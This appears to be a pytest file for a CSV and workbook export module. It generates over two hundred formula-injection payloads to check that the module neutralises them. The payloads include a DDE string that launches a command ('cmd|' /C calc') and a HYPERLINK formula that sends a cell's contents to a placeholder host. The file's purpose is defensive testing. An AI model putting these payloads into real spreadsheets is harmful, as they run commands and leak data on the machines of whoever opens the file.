"""No text that somebody sent acts in a table: two hundred that would, in a CSV and in a workbook."""

import csv
import io
from itertools import product

import pytest
from openpyxl import Workbook, load_workbook

from rabfang.core.cells import csv_text, neutral, plain, put_text

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "|", "%")
BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff", "\u202e", "'", "''")
ACTS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://a.example?"&A1,"x")',
)
PAYLOADS = [before + sign + rest for before, sign, rest in product(BEFORE, SIGNS, ACTS)] + [
    "\t1",
    "\r1",
    "\n1",
    "-2+3+cmd|' /C calc'!D2",
]
HARMLESS = ["ปกติ", "ไฟ = ดับ", "081 234 5678", "a@b.example", "", "'ปกติ", "ก-ข", "1-2"]


def first_seen(text: str) -> str:
    """The first sign of a cell that a program would look at."""
    return text.strip(" \u00a0\u200b\ufeff\u202e")[:1]


def test_there_are_enough() -> None:
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.parametrize("text", PAYLOADS)
def test_what_could_act_begins_with_a_mark_and_comes_back_the_same(text: str) -> None:
    assert neutral(text).startswith("'")
    assert plain(neutral(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_what_cannot_act_stays_as_it_is(text: str) -> None:
    assert plain(neutral(text)) == neutral(text) == text


def test_a_csv_is_read_back_cell_by_cell() -> None:
    rows = [["ก", one, 'a"b,c\r\n=1'] for one in PAYLOADS]
    written = csv_text(rows)
    read = list(csv.reader(io.StringIO(written.removeprefix("\ufeff"), newline="")))
    assert len(read) == len(rows)
    assert all(len(row) == 3 and not first_seen(cell).startswith(SIGNS) for row in read for cell in row)
    assert [plain(row[1]) for row in read] == [row[1] for row in rows]


def test_a_workbook_holds_text_alone() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for line, text in enumerate([one for one in PAYLOADS if "\r" not in one], 1):
        put_text(sheet.cell(line, 1), text)
    out = io.BytesIO()
    book.save(out)
    cells = [row[0] for row in load_workbook(out).active.iter_rows()]  # type: ignore[union-attr]
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.number_format for cell in cells} == {"@"}
    assert not any(first_seen(str(cell.value)).startswith(SIGNS) for cell in cells)
